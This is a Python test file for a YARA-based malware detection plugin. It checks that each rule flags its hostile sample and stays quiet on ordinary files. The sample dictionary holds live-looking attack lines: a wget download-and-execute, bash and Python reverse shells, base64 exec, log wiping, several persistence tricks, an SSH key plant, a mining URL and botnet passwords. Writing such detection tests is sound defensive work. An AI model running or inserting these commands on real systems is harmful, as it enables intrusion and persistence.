"""Each rule finds what it is for, says what that means, and leaves ordinary files alone."""

from pathlib import Path
from typing import Any

import pytest
import yara_x

from malbox.sdk.testing import run_plugin
from services.plugins.builtin.yara.plugin import compile_rules, run, scan
from tests.unit.plugins.conftest import MakeSample

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
FOUND_BY = {
    "eicar_test_file": EICAR,
    "downloads_and_runs": b"#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n",
    "shell_reverse_shell": b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    "python_reverse_shell": b"s=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
    "python_runs_encoded_code": b"exec(base64.b64decode('cHJpbnQoMSk='))\n",
    "shell_runs_encoded_code": b"echo ZWNobyAx | base64 -d | sh\n",
    "clears_traces": b"unset HISTFILE\nrm -rf /var/log/wtmp\n",
    "persists_in_cron": b"echo '* * * * * /tmp/x' > /etc/cron.d/x\n",
    "persists_in_systemd": b"cp x.service /etc/systemd/system/x.service\nsystemctl enable x\n",
    "persists_in_shell_profile": b"echo /tmp/x >> ~/.bashrc\n",
    "hijacks_the_loader": b"echo /tmp/x.so > /etc/ld.so.preload\n",
    "plants_an_ssh_key": b"echo 'ssh-ed25519 AAAAC3' >> ~/.ssh/authorized_keys\n",
    "packed_with_upx": b"\x7fELF" + bytes(60) + b"UPX!" + bytes(200) + b"UPX!",
    "mines_cryptocurrency": b"\x7fELF" + bytes(60) + b"stratum+tcp://192.0.2.1:3333",
    "loads_a_kernel_module": b"insmod /tmp/x.ko\n",
    "names_a_botnet_default": b"\x7fELF" + b"xc3511\0vizxv\0juantech\0",
}
ORDINARY = {
    "a script": b'#!/bin/sh\nfor f in *.txt; do wc -l "$f"; done\n',
    "a download": b"curl -O https://example.org/notes.txt\n",
    "python": b"import socket\ns = socket.socket()\ns.connect(('example.org', 80))\n",
    "words about upx": b"UPX! is a packer. UPX!\n",
    "nothing": b"",
}


@pytest.fixture(scope="module")
def rules() -> yara_x.Rules:
    """The rules that ship, compiled once."""
    return compile_rules()


def test_every_rule_has_a_test_and_says_what_it_means(rules: yara_x.Rules) -> None:
    """Description and severity are there, in their ranges; ATT&CK ids have their form."""
    metadata: dict[str, dict[str, Any]] = {rule.identifier: dict(rule.metadata) for rule in rules}
    assert set(metadata) == set(FOUND_BY)
    for meta in metadata.values():
        assert len(meta["description"]) > 10
        assert 0 <= meta["severity"] <= 100
        assert meta.get("attack", "T1000").startswith("T1")


@pytest.mark.parametrize("rule", sorted(FOUND_BY))
def test_the_rule_finds_what_it_is_for(rule: str, rules: yara_x.Rules, make_sample: MakeSample) -> None:
    """The match carries the rule's meaning and where its strings stand."""
    matches = {match["rule"]: match for match in scan(make_sample(FOUND_BY[rule]), rules)["matches"]}
    assert rule in matches
    assert matches[rule]["strings"]
    assert all(string["offset"] < len(FOUND_BY[rule]) for string in matches[rule]["strings"])


@pytest.mark.parametrize("name", sorted(ORDINARY))
def test_ordinary_files_match_nothing(name: str, rules: yara_x.Rules, make_sample: MakeSample) -> None:
    """A rule that fires on everything tells nobody anything."""
    assert scan(make_sample(ORDINARY[name]), rules) == {"matches": [], "is_truncated": False}


def test_the_worst_match_comes_first(make_sample: MakeSample, tmp_path: Path) -> None:
    """A reader sees what matters without scrolling."""
    sample = make_sample(FOUND_BY["clears_traces"] + FOUND_BY["shell_reverse_shell"])
    matches = run_plugin(run, sample, scratch=tmp_path).json("yara")["matches"]
    severities = [match["severity"] for match in matches]
    assert len(severities) >= 2
    assert severities == sorted(severities, reverse=True)


def test_no_file_of_the_rules_is_itself_a_test_virus() -> None:
    """A scanner that looks at the repository finds nothing."""
    for path in (Path(__file__).parents[3] / "services/plugins").rglob("*.yar"):
        assert EICAR not in path.read_bytes()
